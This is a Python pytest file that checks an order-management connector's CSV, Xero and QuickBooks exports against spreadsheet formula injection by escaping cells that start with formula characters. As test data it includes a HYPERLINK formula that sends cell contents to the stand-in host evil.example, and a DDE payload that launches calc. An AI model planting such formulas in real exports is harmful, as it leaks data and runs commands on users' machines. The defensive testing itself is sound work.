"""No cell of a spreadsheet export is read as a formula (OWASP, CSV injection)."""

from __future__ import annotations

import csv
import dataclasses
import io

import pytest

from oms_connector.adapters.exports.csv_lines import write_csv
from oms_connector.adapters.exports.formats import Writer
from oms_connector.adapters.exports.invoice_lines import spreadsheet_safe
from oms_connector.adapters.exports.quickbooks import write_quickbooks
from oms_connector.adapters.exports.settings import ExportOptions
from oms_connector.adapters.exports.xero import write_xero
from oms_connector.domain.statements import Statement

from .worked_example import section_7_statements, statements_with_late_changes

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\tTab", "'\tTab"),
        ("\rReturn", "'\rReturn"),
        ("-12.50", "-12.50"),
        ("-3", "-3"),
        ("12.50", "12.50"),
        ("Acme = Corp", "Acme = Corp"),
        ("", ""),
    ],
)
def test_a_cell_that_starts_a_formula_is_written_as_text(cell: str, written: str) -> None:
    assert spreadsheet_safe(cell) == written


def hostile_statements() -> list[Statement]:
    return [
        dataclasses.replace(
            s,
            customer=HOSTILE,
            lines=tuple(dataclasses.replace(line, issue_keys=("@ACME-1",)) for line in s.lines),
        )
        for s in section_7_statements()
    ]


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.parametrize("write", [write_csv, write_xero, write_quickbooks])
def test_no_exported_cell_starts_a_formula_and_amounts_stay_numbers(write: Writer) -> None:
    text = write(hostile_statements(), ExportOptions())

    written = cells(text)
    starts_formula = [c for c in written if c[:1] in "=+-@\t\r" and c[:1]]
    assert [c for c in starts_formula if not c.lstrip("-").replace(".", "").isdigit()] == []
    assert f"'{HOSTILE}" in written
    assert write(section_7_statements(), ExportOptions()).count("\n") == text.count("\n")


def test_the_csv_export_keeps_negative_amounts_as_numbers() -> None:
    text = write_csv(statements_with_late_changes(), ExportOptions())
    rows = list(csv.DictReader(io.StringIO(text)))

    assert [row["amount"] for row in rows if row["amount"].startswith("-")] == ["-83.13"]


def test_hostile_names_and_keys_reach_the_csv_export_as_text() -> None:
    rows = list(csv.DictReader(io.StringIO(write_csv(hostile_statements(), ExportOptions()))))

    assert {row["customer"] for row in rows} == {f"'{HOSTILE}"}
    assert {row["issue_keys"] for row in rows if row["issue_keys"]} == {"'@ACME-1"}
